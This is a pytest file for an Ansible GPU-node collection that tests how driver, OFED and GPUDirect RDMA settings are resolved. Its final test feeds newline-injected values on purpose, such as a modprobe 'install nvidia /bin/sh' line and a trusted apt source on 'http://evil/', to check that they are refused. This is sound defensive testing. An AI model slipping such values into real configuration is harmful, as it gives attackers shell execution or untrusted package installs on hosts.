"""Each role's resolved settings (module_utils/settings.py): inventory, then profile, then manifest, then role
default, empty meaning unset. Checked on the model directly, and through the action nodeforge.gpu.resolve_settings in a
real ansible-playbook run on this machine (local connection, nothing changes)."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from nodeforge import content
from nodeforge.collection import model, settings

DRIVER_DEFAULTS = {
    "nvidia_driver_source": "",
    "nvidia_driver_branch": "",
    "nvidia_driver_version": "",
    "nvidia_driver_flavor": "",
}


def driver(variables: dict, dgx_os: bool = False) -> dict:
    m = model.HostModel("node-01", {**DRIVER_DEFAULTS, **variables}, {})
    return settings.nvidia_driver(m, {"dgx_os": dgx_os})


def test_driver_from_the_profile_then_the_manifest():
    found = driver({"nodeforge_profile": "dgx-1"})
    assert (found["__nvidia_driver_source"], found["__nvidia_driver_branch"], found["__nvidia_driver_flavor"]) == (
        "cuda_repo",
        "580",
        "proprietary",
    )
    assert found["__nvidia_driver_wanted_version"] == model.manifest()["nvidia_driver"]["branches"]["580"]["version"]
    # The lab profile sets nothing: the manifest's branch, the role's open flavor.
    lab = driver({"nodeforge_profile": "lab"})
    assert lab["__nvidia_driver_branch"] == str(model.manifest()["nvidia_driver"]["branch"])
    assert lab["__nvidia_driver_flavor"] == "open"


def test_driver_inventory_wins_and_empty_means_unset():
    found = driver({"nodeforge_profile": "dgx-1", "nvidia_driver_branch": 535, "nvidia_driver_version": " 535.261.03 "})
    assert (found["__nvidia_driver_branch"], found["__nvidia_driver_wanted_version"]) == ("535", "535.261.03")
    # 535 has no version in the manifest: nothing pinned, the newest of the branch is taken on the node.
    assert driver({"nodeforge_profile": "dgx-1", "nvidia_driver_branch": "535"})["__nvidia_driver_wanted_version"] == ""
    assert (
        driver({"nodeforge_profile": "dgx-1", "nvidia_driver_flavor": "  "})["__nvidia_driver_flavor"] == "proprietary"
    )


def test_driver_on_a_vgpu_guest_takes_the_grid_version():
    overrides = {"nvidia_driver": {"grid": {"version": "580.95.05", "package": "nvidia-linux-grid-580"}}}
    found = driver({"nodeforge_profile": "vsphere-t4-vgpu", "nodeforge_manifest_overrides": overrides})
    assert (found["__nvidia_driver_source"], found["__nvidia_driver_wanted_version"]) == ("grid", "580.95.05")


@pytest.mark.parametrize(
    ("dgx_os", "manage", "managed"), [(False, False, True), (True, False, False), (True, "yes", True)]
)
def test_driver_leaves_dgx_os_alone_unless_asked(dgx_os, manage, managed):
    assert (
        driver({"nodeforge_profile": "dgx-h100", "nvidia_driver_manage_on_dgx": manage}, dgx_os)[
            "__nvidia_driver_managed"
        ]
        is managed
    )


OFED_DEFAULTS = {
    "ofed_mode": "",
    "ofed_version": "",
    "ofed_doca_repo_url": "",
    "ofed_doca_key_url": "",
    "ofed_doca_profile_package": "",
    "ofed_mlnx_ofed_url": "",
    "ofed_mlnx_ofed_checksum": "",
    "ofed_inbox_packages": [],
}


def ofed(variables: dict, os_id: str = "debian12", names: dict | None = None) -> dict:
    m = model.HostModel(
        "node-01", {**OFED_DEFAULTS, "nodeforge_profile": "dgx-1", **variables}, {"ofed_mode": "ofed_mode"}
    )
    return settings.ofed(m, {"os_id": os_id, "inbox_names": names or {}})


def test_ofed_doca_from_the_manifest():
    found = ofed({}, os_id="ubuntu22.04")
    doca = model.manifest()["ofed"]["doca"]
    assert (found["__ofed_mode"], found["__ofed_mode_from"]) == ("doca", "version manifest ofed.mode (default)")
    assert (found["__ofed_version"], found["__ofed_version_from"]) == (
        doca["version"],
        "version manifest ofed.doca.version",
    )
    assert found["__ofed_doca_repo_url"] == doca["baseurl"].replace("{version}", doca["version"]).replace(
        "{distro}", "ubuntu22.04"
    )
    assert found["__ofed_doca_profile_package"] == "doca-ofed"


def test_ofed_inventory_version_goes_into_the_urls():
    found = ofed(
        {"ofed_mode": "mlnx_ofed", "ofed_version": "23.10-1.1.9.0", "ofed_mlnx_ofed_checksum": "sha256:" + "a" * 64}
    )
    assert (found["__ofed_mode"], found["__ofed_mode_from"]) == ("mlnx_ofed", "ofed_mode")
    assert found["__ofed_version_from"] == "ofed_version"
    assert "MLNX_OFED-23.10-1.1.9.0/MLNX_OFED_LINUX-23.10-1.1.9.0-debian12-x86_64.tgz" in found["__ofed_mlnx_url"]
    assert (found["__ofed_mlnx_checksum"], found["__ofed_mlnx_checksum_from"]) == (
        "sha256:" + "a" * 64,
        "ofed_mlnx_ofed_checksum",
    )


def test_ofed_unset_mode_keeps_the_installed_stack():
    """Unset, the manifest's doca used to win over an installed MLNX_OFED (and uninstall it)."""
    m = model.HostModel("node-01", {"ofed_mode": ""}, {})
    found = settings.ofed(m, {"os_id": "debian12", "installed_stack": "mlnx_ofed"})
    assert found["__ofed_mode"] == "mlnx_ofed"
    assert found["__ofed_mode_from"] == "the installed stack (ofed_mode unset; the default would be doca)"
    # Nothing installed (or not read yet): the default; an explicit ofed_mode always wins.
    assert settings.ofed(m, {"os_id": "debian12", "installed_stack": "none"})["__ofed_mode"] == "doca"
    explicit = model.HostModel("node-01", {"ofed_mode": "inbox"}, {})
    assert settings.ofed(explicit, {"os_id": "debian12", "installed_stack": "mlnx_ofed"})["__ofed_mode"] == "inbox"


def test_ofed_inbox_packages_in_the_node_s_names():
    found = ofed({"ofed_mode": "inbox"}, os_id="rhel9.4", names={"ibverbs-utils": "libibverbs-utils"})
    assert found["__ofed_version"] == ""
    assert found["__ofed_inbox_pkgs"] == ["rdma-core", "libibverbs-utils", "infiniband-diags", "perftest"]


OUTPUTS = Path(__file__).parent / "data" / "outputs"
GPUDIRECT_DEFAULTS = {
    "gpudirect_rdma_driver_flavor": "",
    "gpudirect_rdma_driver_branch": "",
    "gpudirect_rdma_driver_version": "",
    "gpudirect_rdma_peermem_module_name": "",
    "gpudirect_rdma_kernels": [],
    "gpudirect_rdma_nvidia_dkms_pattern": "^nvidia(-current|-srv)?(-open)?$",
}


def gpudirect(variables: dict, dkms: str = "", kernel: str = "6.1.0-99-amd64") -> dict:
    m = model.HostModel("node-01", {**GPUDIRECT_DEFAULTS, **variables}, {})
    return settings.gpudirect_rdma(m, {"dkms_status": dkms, "kernel": kernel})


def test_gpudirect_driver_from_what_nvidia_driver_found_first():
    facts = {"flavor": "open", "version": "535.216.03", "modules": {"nvidia_peermem": {"modprobe": "nvidia-peermem"}}}
    found = gpudirect({"nodeforge_profile": "dgx-1", "nvidia_driver_facts": facts, "nvidia_driver_branch": "580"})
    driver = found["__gpudirect_rdma_driver"]
    # The driver's facts beat the inventory's nvidia_driver_* and the profile; the branch from the facts' version.
    assert (driver["flavor"], driver["flavor_from"]) == ("open", "nvidia_driver_facts.flavor")
    assert (driver["branch"], driver["branch_from"]) == ("535", "nvidia_driver_facts.version")
    assert (driver["peermem_module"], driver["peermem_module_from"]) == (
        "nvidia-peermem",
        "nvidia_driver_facts.modules.nvidia_peermem.modprobe",
    )
    # The role's own variable wins over everything; empty means unset.
    own = gpudirect({"nvidia_driver_facts": facts, "gpudirect_rdma_driver_version": "470.256.02 "})
    assert own["__gpudirect_rdma_driver"]["branch"] == "470"
    assert own["__gpudirect_rdma_driver"]["branch_from"] == "gpudirect_rdma_driver_version"


def test_gpudirect_driver_falls_back_to_profile_then_manifest():
    driver = gpudirect({"nodeforge_profile": "dgx-1"})["__gpudirect_rdma_driver"]
    assert (driver["flavor"], driver["flavor_from"]) == ("proprietary", "hardware profile dgx-1")
    assert (driver["version"], driver["version_from"]) == ("", "nowhere")
    lab = gpudirect({"nodeforge_profile": "lab"})["__gpudirect_rdma_driver"]
    assert (lab["branch"], lab["branch_from"]) == (
        str(model.manifest()["nvidia_driver"]["branch"]),
        "version manifest nvidia_driver.branch",
    )
    overridden = {"nodeforge_manifest_overrides": {"nvidia_driver": {"branch": "570"}}}
    assert gpudirect(overridden)["__gpudirect_rdma_driver"]["branch"] == "570"


def test_gpudirect_dkms_modules_and_kernels_from_dkms_status():
    mixed = (OUTPUTS / "dkms-status-mixed-debian12.txt").read_text()
    found = gpudirect({}, dkms=mixed)
    # nvidia-current for two kernels; gdrdrv is not the driver's module.
    assert [(e["name"], e["kernel"]) for e in found["__gpudirect_rdma_nvidia_dkms"]] == [
        ("nvidia-current", "6.1.0-28-amd64"),
        ("nvidia-current", "6.1.0-30-amd64"),
    ]
    assert found["__gpudirect_rdma_kernels"] == ["6.1.0-28-amd64", "6.1.0-30-amd64"]
    assert found["__gpudirect_rdma_kernels_from"] == "the NVIDIA DKMS modules (dkms status)"
    assert found["__gpudirect_rdma_min_branch"] == model.manifest()["gpudirect_rdma"]["nvidia_peermem_min_branch"]
    # A module only added (no kernel yet) is not a build: the running kernel then.
    added = gpudirect({}, dkms=(OUTPUTS / "dkms-status-added-debian12.txt").read_text())
    assert (added["__gpudirect_rdma_nvidia_dkms"], added["__gpudirect_rdma_kernels"]) == ([], ["6.1.0-99-amd64"])
    assert added["__gpudirect_rdma_kernels_from"] == "the running kernel"
    # A module the nvidia_driver role named outside the pattern counts; kernels the role listed come before dkms.
    facts = {"dkms": {"name": "gdrdrv", "kernels": ["6.1.0-31-amd64"]}}
    named = gpudirect({"nvidia_driver_facts": facts}, dkms=mixed)
    assert [e["name"] for e in named["__gpudirect_rdma_nvidia_dkms"]][-1] == "gdrdrv"
    assert (named["__gpudirect_rdma_kernels"], named["__gpudirect_rdma_kernels_from"]) == (
        ["6.1.0-31-amd64"],
        "nvidia_driver_facts.dkms.kernels",
    )
    own = gpudirect({"gpudirect_rdma_kernels": ["6.1.0-1-amd64"]}, dkms=mixed)
    assert (own["__gpudirect_rdma_kernels"], own["__gpudirect_rdma_kernels_from"]) == (
        ["6.1.0-1-amd64"],
        "gpudirect_rdma_kernels",
    )


def test_the_default_dkms_pattern_takes_each_vendor_s_driver_module_and_nothing_else():
    """The default of gpudirect_rdma_nvidia_dkms_pattern (the role's defaults, and nvidia_driver's own for its
    rebuild): NVIDIA's nvidia, Debian's nvidia-current(-open), and Canonical's nvidia-srv, the DKMS module of Ubuntu's
    -server driver packages (`dkms status` on an Ubuntu node with nvidia-dkms-580-server: nvidia-srv/VERSION); never
    another vendor's module beside them."""
    roles = Path(__file__).parents[1] / "collections" / "ansible_collections" / "nodeforge" / "gpu" / "roles"
    default = yaml.safe_load((roles / "gpudirect_rdma" / "defaults" / "main.yml").read_text())
    pattern = default["gpudirect_rdma_nvidia_dkms_pattern"]
    driver_vars = yaml.safe_load((roles / "nvidia_driver" / "vars" / "main.yml").read_text())
    assert driver_vars["__nvidia_driver_dkms_pattern"] == pattern
    names = ["nvidia", "nvidia-open", "nvidia-current", "nvidia-current-open", "nvidia-srv", "nvidia-fs", "gdrdrv",
             "nv_peer_mem", "nvidia-srv-legacy", "mlnx-ofed-kernel"]  # fmt: skip
    status = "".join(f"{name}/580.95.05, 6.8.0-88-generic, x86_64: installed\n" for name in names)
    found = gpudirect({"gpudirect_rdma_nvidia_dkms_pattern": pattern}, dkms=status)
    assert [e["name"] for e in found["__gpudirect_rdma_nvidia_dkms"]] == names[:5]


@pytest.mark.slow
def test_resolve_settings_action_in_a_playbook(tmp_path):
    """The action as the roles call it: variables templated as a task sees them, profile and overrides applied."""
    playbook = tmp_path / "resolve.yml"
    playbook.write_text(
        """
- hosts: all
  gather_facts: false
  vars:
    site_branch: "535"
    nvidia_driver_branch: "{{ site_branch }}"
    nvidia_driver_flavor: ""
    ofed_mode: ""
  tasks:
    - nodeforge.gpu.resolve_settings:
        role: nvidia_driver
        node: {dgx_os: false}
    - nodeforge.gpu.resolve_settings:
        role: ofed
        node: {os_id: debian12, inbox_names: {}}
    - nodeforge.gpu.resolve_settings:
        role: gpudirect_rdma
        node: {dkms_status: "nvidia-current/535.216.03, 6.1.0-28-amd64, x86_64: installed", kernel: "6.1.0-1-amd64"}
      vars:
        gpudirect_rdma_nvidia_dkms_pattern: "^nvidia(-current|-srv)?(-open)?$"
    - ansible.builtin.copy:
        dest: "{{ out }}"
        content: >-
          {{ {'driver': [__nvidia_driver_branch, __nvidia_driver_flavor],
              'ofed': [__ofed_mode, __ofed_mode_from],
              'gpudirect': [__gpudirect_rdma_driver.branch, __gpudirect_rdma_driver.branch_from,
                            __gpudirect_rdma_kernels]} | to_json }}
        mode: "0600"
      delegate_to: localhost
"""
    )
    out = tmp_path / "out.json"
    env = {**os.environ, "ANSIBLE_COLLECTIONS_PATH": str(content.collections_dir())}
    cmd = [str(Path(sys.executable).parent / "ansible-playbook"), "-i", "node-01,", str(playbook)]
    extra = {"out": str(out), "nodeforge_profile": "dgx-1", "nodeforge_manifest_overrides": {"ofed": {"mode": "inbox"}}}
    run = subprocess.run([*cmd, "-e", json.dumps(extra)], env=env, capture_output=True, text=True)
    assert run.returncode == 0, run.stdout + run.stderr
    assert json.loads(out.read_text()) == {
        "driver": ["535", "proprietary"],
        "ofed": ["inbox", "nodeforge_manifest_overrides ofed.mode"],
        "gpudirect": ["535", "nvidia_driver_branch", ["6.1.0-28-amd64"]],
    }


@pytest.mark.slow
@pytest.mark.parametrize(
    ("role", "variables", "expected"),
    [
        (
            "nvidia_driver",
            {"nvidia_driver_module_options": {"NVreg_EnableMSI": "1\ninstall nvidia /bin/sh"}},
            "nvidia_driver_module_options.NVreg_EnableMSI: found '1\\ninstall nvidia /bin/sh'",
        ),
        (
            "nvidia_container_toolkit",
            {"nvidia_container_toolkit_repo_url": "http://m/ /\ndeb [trusted=yes] http://evil/ /"},
            "nvidia_container_toolkit_repo_url: found",
        ),
        ("selinux_modules", {"selinux_modules_booleans": {"x\ny": True}}, "selinux_modules_booleans.'x\\ny'"),
        (
            "nvidia_driver",
            {"nvidia_driver_grid_client_token": "tok\nen"},
            "nvidia_driver_grid_client_token: found ****",
        ),
    ],
)
def test_resolve_settings_refuses_unsafe_values_before_any_node_task(tmp_path, role, variables, expected):
    """A role used on its own (no validation play) refuses what `nodeforge check` refuses, with the same words."""
    playbook = tmp_path / "unsafe.yml"
    playbook.write_text(
        f"""
- hosts: all
  gather_facts: false
  tasks:
    - nodeforge.gpu.resolve_settings:
        role: {role}
        node: {{dgx_os: false, os_id: debian12, inbox_names: {{}}, url_key: deb_url}}
    - ansible.builtin.file:
        path: {tmp_path}/reached
        state: touch
        mode: "0600"
      delegate_to: localhost
"""
    )
    env = {**os.environ, "ANSIBLE_COLLECTIONS_PATH": str(content.collections_dir())}
    cmd = [str(Path(sys.executable).parent / "ansible-playbook"), "-i", "node-01,", str(playbook)]
    run = subprocess.run([*cmd, "-e", json.dumps(variables)], env=env, capture_output=True, text=True)
    assert run.returncode == 2, run.stdout + run.stderr
    message = f"node-01: {role} refuses values unsafe in the files they land in: {expected}"
    assert json.dumps(message)[1:-1] in run.stdout, run.stdout
    assert "exception" not in run.stdout
    assert "tok" not in run.stdout.replace("token", "")
    assert not (tmp_path / "reached").exists()
